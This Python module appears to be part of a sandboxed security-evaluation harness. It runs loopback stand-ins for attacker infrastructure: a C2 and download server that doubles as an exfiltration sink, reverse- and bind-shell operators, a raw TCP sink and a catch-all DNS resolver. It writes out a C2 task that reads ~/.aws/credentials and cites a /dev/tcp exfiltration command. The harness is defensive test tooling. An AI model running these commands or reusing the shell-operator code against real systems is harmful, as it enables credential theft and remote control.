"""The loopback servers a scenario talks to, run by the keeper inside the scenario's network
namespace (only ``lo`` exists there, so the fixed ports below can collide with nothing).

    http         127.0.0.1:8080  stand-in for download hosts and C2: payloads, tasks; every
                                 POST/PUT (and GET query) is the exfiltration sink
    listener     127.0.0.1:4444  reverse-shell operator: types ``commands``, keeps the transcript
    bind_client  -> 127.0.0.1:5555  bind-shell operator: connects to the shell the scenario opened
    tcp_sink     127.0.0.1:9001  raw TCP sink (``cat key > /dev/tcp/...``)
    dns          127.0.0.1:53/udp  resolver: answers every A query with 127.0.0.1, counts names

Each server keeps a bounded text record (at most :data:`MAX_RECORD_BYTES`) that the keeper
matches the scenario's ``effects`` against; only fake secrets exist in the sandbox, so what a
sink receives is placeholders.
"""

from __future__ import annotations

import socket
import socketserver
import struct
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

__all__ = ["Record", "Servers", "PORTS", "PAYLOAD_SH", "PAYLOAD_PY", "PAYLOAD_C", "LOOPBACK_PORTS"]

PORTS = {"http": 8080, "listener": 4444, "bind_client": 5555, "tcp_sink": 9001, "dns": 53}
LOOPBACK_PORTS = (8080, 4444, 5555, 9001, 53)
"""The stand-in "internet" ports: the runner adds them to ``allowed_loopback_ports`` of the rules it
runs with, as make eval does for its servers (a developer's own loopback servers stay ignored)."""
MAX_RECORD_BYTES = 1 << 16
SHELL_IDLE_S = 2.0
SHELL_TOTAL_S = 12.0
MARKER_FILE = "/tmp/casa-payload-ran"

PAYLOAD_SH = f"#!/bin/sh\n# stand-in payload: proves it ran, nothing else\nid\ntouch {MARKER_FILE}\n".encode()
PAYLOAD_PY = (f"import subprocess\nsubprocess.run(['id'])\nopen('{MARKER_FILE}', 'w').write('ran')\n").encode()
PAYLOAD_C = (f'#include <stdio.h>\nint main(void) {{ FILE *f = fopen("{MARKER_FILE}", "w");\n'
             '  if (f) fclose(f); puts("payload ran"); return 0; }\n').encode()
TASK = b"id; uname -a; cat ~/.aws/credentials\n"


@dataclass(slots=True)
class Record:
    """What one server saw: a bounded transcript and counters."""

    name: str
    text: bytearray = field(default_factory=bytearray)
    events: int = 0
    names: set[str] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, data: bytes) -> None:
        with self.lock:
            self.events += 1
            room = MAX_RECORD_BYTES - len(self.text)
            if room > 0:
                self.text += data[:room] + b"\n"

    def summary(self) -> dict[str, Any]:
        return {"events": self.events, "bytes": len(self.text), "distinct_names": len(self.names),
                "head": self.text[:600].decode("utf-8", "replace")}


class _Http(BaseHTTPRequestHandler):
    server: Any

    def log_message(self, fmt: str, *args: Any) -> None:
        pass

    def _reply(self, body: bytes, ctype: str = "text/plain") -> None:
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self.server.record.add(f"GET {self.path[:2000]}".encode())
        path = self.path.split("?", 1)[0]
        if path.endswith(".sh"):
            self._reply(PAYLOAD_SH, "text/x-shellscript")
        elif path.endswith(".py"):
            self._reply(PAYLOAD_PY, "text/x-python")
        elif path.endswith(".c"):
            self._reply(PAYLOAD_C, "text/x-c")
        elif path.startswith("/implant"):
            self._reply(self.server.implant, "application/octet-stream")
        elif path.startswith("/task"):
            self._reply(TASK)
        else:
            self._reply(b"<html><body>ok</body></html>\n", "text/html")

    def do_POST(self) -> None:
        length = min(int(self.headers.get("Content-Length") or 0), MAX_RECORD_BYTES)
        body = self.rfile.read(length) if length else b""
        self.server.record.add(f"{self.command} {self.path[:2000]}\n".encode() + body)
        self._reply(b"ok\n")

    do_PUT = do_POST


def _converse(conn: socket.socket, commands: list[str], record: Record) -> None:
    """Type ``commands`` into a shell on ``conn`` and keep what it answers, until it goes quiet."""
    conn.settimeout(0.3)
    pending = [c.encode() + b"\n" for c in commands]
    started = last_data = time.monotonic()
    while time.monotonic() - started < SHELL_TOTAL_S:
        if pending and time.monotonic() - last_data > 0.3:
            conn.sendall(pending.pop(0))
            last_data = time.monotonic()
        try:
            data = conn.recv(4096)
        except TimeoutError:
            if not pending and time.monotonic() - last_data > SHELL_IDLE_S:
                break
            continue
        except OSError:
            break
        if not data:
            break
        record.add(data)
        last_data = time.monotonic()
    conn.close()


class _Sink(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.settimeout(5.0)
        chunks = []
        try:
            while data := self.request.recv(65536):
                chunks.append(data)
        except OSError:
            pass
        self.server.record.add(b"".join(chunks))


class _Listener(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        _converse(self.request, self.server.commands, self.server.record)


class _Tcp(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


def dns_qname(packet: bytes) -> str | None:
    """The first question's name of a DNS query, or None if it does not parse."""
    if len(packet) < 13:
        return None
    labels, i = [], 12
    while i < len(packet):
        n = packet[i]
        if n == 0:
            return ".".join(labels)
        if n > 63 or i + 1 + n > len(packet):
            return None
        labels.append(packet[i + 1:i + 1 + n].decode("ascii", "replace"))
        i += 1 + n
    return None


def dns_answer(packet: bytes) -> bytes:
    """A response to ``packet`` with one A record, 127.0.0.1 (name compression pointer to 12)."""
    qend = packet.index(b"\x00", 12) + 5
    header = packet[:2] + b"\x81\x80" + packet[4:6] + b"\x00\x01\x00\x00\x00\x00"
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 5, 4) + socket.inet_aton("127.0.0.1")
    return header + packet[12:qend] + answer


class _Dns(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        packet, sock = self.request
        name = dns_qname(packet)
        record: Record = self.server.record
        record.add(packet)
        if name is None:
            return
        with record.lock:
            record.names.add(name.lower())
        try:
            sock.sendto(dns_answer(packet), self.client_address)
        except (OSError, ValueError):
            pass


class _Udp(socketserver.ThreadingUDPServer):
    daemon_threads = True


@dataclass(slots=True)
class Servers:
    """The servers one scenario asked for, started in the keeper's network namespace."""

    wanted: list[str]
    commands: list[str]
    implant: bytes
    records: dict[str, Record] = field(default_factory=dict)
    _servers: list[socketserver.BaseServer] = field(default_factory=list)
    _threads: list[threading.Thread] = field(default_factory=list)

    def start(self) -> None:
        for name in self.wanted:
            self.records[name] = Record(name)
            if name == "bind_client":
                self._spawn(name, self._bind_client)
                continue
            srv = self._make(name)
            srv.record = self.records[name]             # type: ignore[attr-defined]
            self._servers.append(srv)
            self._spawn(name, srv.serve_forever)

    def _make(self, name: str) -> socketserver.BaseServer:
        addr = ("127.0.0.1", PORTS[name])
        if name == "http":
            srv: Any = ThreadingHTTPServer(addr, _Http)
            srv.daemon_threads = True
            srv.implant = self.implant
            return srv
        if name == "dns":
            return _Udp(addr, _Dns)
        srv = _Tcp(addr, _Listener if name == "listener" else _Sink)
        srv.commands = self.commands
        return srv

    def _spawn(self, name: str, target: Any) -> None:
        t = threading.Thread(target=target, name=f"server-{name}", daemon=True)
        t.start()
        self._threads.append(t)

    def _bind_client(self) -> None:
        """Connect to the scenario's bind shell as soon as it listens (for up to 20 s)."""
        deadline = time.monotonic() + 20.0
        while time.monotonic() < deadline:
            try:
                conn = socket.create_connection(("127.0.0.1", PORTS["bind_client"]), timeout=1.0)
            except OSError:
                time.sleep(0.2)
                continue
            _converse(conn, self.commands, self.records["bind_client"])
            return

    def stop(self) -> None:
        for srv in self._servers:
            srv.shutdown()
            srv.server_close()

    def text(self, name: str) -> str:
        rec = self.records.get(name)
        return rec.text.decode("utf-8", "replace") if rec else ""
